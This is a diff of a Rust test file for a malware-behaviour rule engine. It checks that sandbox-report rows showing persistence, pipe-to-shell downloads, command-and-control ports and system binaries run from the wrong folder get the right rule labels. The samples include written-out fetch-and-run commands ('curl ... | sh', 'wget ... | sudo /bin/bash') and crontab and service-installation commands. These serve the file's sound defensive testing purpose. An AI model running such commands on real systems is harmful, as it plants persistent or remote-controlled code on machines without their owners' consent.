@@ -36,7 +36,7 @@ fn shipped_rules_are_sound_many_and_named_once() {
 }
 
 /// Rows that tell something, each with the rule that says so.
-const TELLING: [(&str, &str); 36] = [
+const TELLING: [(&str, &str); 37] = [
     (
         r#"{"registry_keys_set":[{"key":"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x","value":"y"}]}"#,
         "run-key",
@@ -50,6 +50,7 @@ const TELLING: [(&str, &str); 36] = [
         "browser-passwords",
     ),
     (r#"{"ip_traffic":[{"destination_ip":"192.0.2.1","destination_port":4444}]}"#, "c2-port"),
+    (r#"{"ip_traffic":[{"destination_ip":"192.0.2.1","destination_port":8443}]}"#, "shared-port"),
     (
         r#"{"files_written":["C:\\Users\\a\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.lnk"]}"#,
         "startup-folder",
@@ -254,4 +255,101 @@ fn regular_expressions_beyond_the_most_are_named_once_and_cost_nothing() {
                 nothing more; from here on 10 of them are not used, the others are.";
     assert_eq!(problems, [told]);
     assert_eq!(rules.rules.last().map(|rule| rule.id.as_str()), Some("text"));
+}
+
+/// The rule that matters most for the one row of an attribute.
+fn best(attribute: &str, row: &str) -> String {
+    let row = row.replace('\\', r"\\").replace('"', "\\\"");
+    let json = match attribute {
+        "registry_keys_set" => format!(r#"{{"{attribute}":[{{"key":"{row}","value":"c:\\x.exe"}}]}}"#),
+        "processes_tree" => format!(r#"{{"{attribute}":[{{"name":"{row}","process_id":"7","time_offset":3}}]}}"#),
+        "mitre_attack_techniques" => {
+            format!(r#"{{"{attribute}":[{{"id":"{row}","severity":"IMPACT_SEVERITY_INFO"}}]}}"#)
+        }
+        _ => format!(r#"{{"{attribute}":["{row}"]}}"#),
+    };
+    marks(&json).into_iter().next().unwrap_or_default()
+}
+
+#[test]
+fn what_starts_by_itself_is_marked_on_every_system() {
+    let (file, command, key) = ("files_written", "command_executions", "registry_keys_set");
+    for (attribute, row, id) in [
+        (file, "/etc/cron.d/x", "unix-start"),
+        (file, "/var/spool/cron/crontabs/root", "unix-start"),
+        (file, "/etc/systemd/system/x.service", "unix-start"),
+        (file, "/home/u/.config/systemd/user/x.service", "unix-start"),
+        (file, "/etc/rc.local", "unix-start"),
+        (file, "/etc/init.d/x", "unix-start"),
+        (file, "/etc/ld.so.preload", "unix-start"),
+        (file, "/Library/LaunchDaemons/x.plist", "unix-start"),
+        (file, "/Users/u/Library/LaunchAgents/x.plist", "unix-start"),
+        (file, "/root/.ssh/authorized_keys", "unix-logon"),
+        (file, "/home/u/.bashrc", "unix-logon"),
+        (file, "/home/u/.profile", "unix-logon"),
+        (file, "/home/u/.bash_profile", "unix-logon"),
+        (file, "/etc/profile.d/x.sh", "unix-logon"),
+        (file, "/home/u/.config/autostart/x.desktop", "unix-logon"),
+        (file, "/home/u/.profile/notes.txt", ""),
+        (file, "/etc/hostname", ""),
+        (file, r"%APPDATA%\Microsoft\Word\STARTUP\x.dotm", "startup-folder"),
+        (command, "crontab /tmp/.c", "start-command"),
+        (command, "sh -c \"(crontab -l; echo x) | crontab -\"", "start-command"),
+        (command, "crontab -l", ""),
+        (command, "systemctl --user enable x.service", "start-command"),
+        (command, "systemctl is-enabled x.service", ""),
+        (command, "launchctl load /Library/LaunchDaemons/x.plist", "start-command"),
+        (command, "curl -s http://203.0.113.9/x | sh", "pipe-to-shell"),
+        (command, "wget -qO- http://203.0.113.9/x|sudo /bin/bash", "pipe-to-shell"),
+        (command, "curl http://203.0.113.9/x | show", ""),
+        (command, "Register-ScheduledTask -TaskName x", "start-command"),
+        (command, r"New-Service -Name x -BinaryPathName c:\x.exe", "start-command"),
+        (command, "schtasks.exe /change /tn x /tr y", "start-command"),
+        (command, "schtasks /change /tn x /disable", ""),
+        (command, r"netsh add helper c:\x.dll", "start-command"),
+        (command, r#"copy x "C:\Users\u\Start Menu\Programs\Startup\x.exe""#, "start-command"),
+        (command, r"Remove-Item C:\Users\u\Startup\x.exe", ""),
+        (key, r"HKLM\SYSTEM\CurrentControlSet\Control\Session Manager\BootExecute", "other-start"),
+        (key, r"HKCU\Software\Microsoft\Command Processor\AutoRun", "other-start"),
+        (key, r"HKCU\Software\Microsoft\Windows NT\CurrentVersion\Windows\Load", "other-start"),
+        (key, r"HKCU\Software\Vendor\AutoRun", ""),
+        ("mitre_attack_techniques", "T1053.003", "named-persistence"),
+        ("mitre_attack_techniques", "T1055", ""),
+    ] {
+        assert_eq!(best(attribute, row), id, "{row}");
+    }
+}
+
+#[test]
+fn a_reason_that_speaks_of_persistence_is_of_what_stays() {
+    let (rules, _) = Rules::read(None);
+    for rule in rules.rules.iter().filter(|rule| rule.words().to_lowercase().contains("persistence")) {
+        assert!(matches!(rule.id.as_str(), "persistence-tag" | "named-persistence"), "{}", rule.id);
+    }
+}
+
+#[test]
+fn a_system_program_is_noise_in_its_own_folder_alone_and_marked_outside_of_it() {
+    for (program, id) in [
+        ("conhost.exe", "noise-processes"),
+        (r"C:\Windows\System32\conhost.exe 0x4", "noise-processes"),
+        (r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1", "noise-processes"),
+        (r"C:\Windows\system32\wbem\WMIADAP.EXE /F /T /R", "noise-processes"),
+        (r"%SystemRoot%\System32\audiodg.exe 0x1", "noise-processes"),
+        (r"C:\Windows\System32\conhost.exe --headless cmd /c x", ""),
+        ("conhost.exe --headless x", ""),
+        (r#""C:\ProgramData\conhost.exe" 0x4"#, "svchost-elsewhere"),
+        (r"C:\Users\u\Windows\System32\audiodg.exe", ""),
+        (r"C:\Users\u\wermgr.exe", ""),
+        (r"C:\ProgramData\lsass.exe", "svchost-elsewhere"),
+        (r"C:\Users\u\AppData\Roaming\svchost.exe -k netsvcs", "svchost-elsewhere"),
+        (r"C:\Windows\Temp\csrss.exe", "svchost-elsewhere"),
+        (r"C:\Users\u\AppData\Local\Temp\explorer.exe", "svchost-elsewhere"),
+        (r"%SystemRoot%\system32\csrss.exe ObjectDirectory=\Windows", ""),
+        (r"C:\Windows\Explorer.EXE", ""),
+        ("lsass.exe", ""),
+    ] {
+        assert_eq!(best("processes_tree", program), id, "{program}");
+    }
+    assert_eq!(best("processes_created", r"C:\ProgramData\lsass.exe"), "svchost-elsewhere");
 }
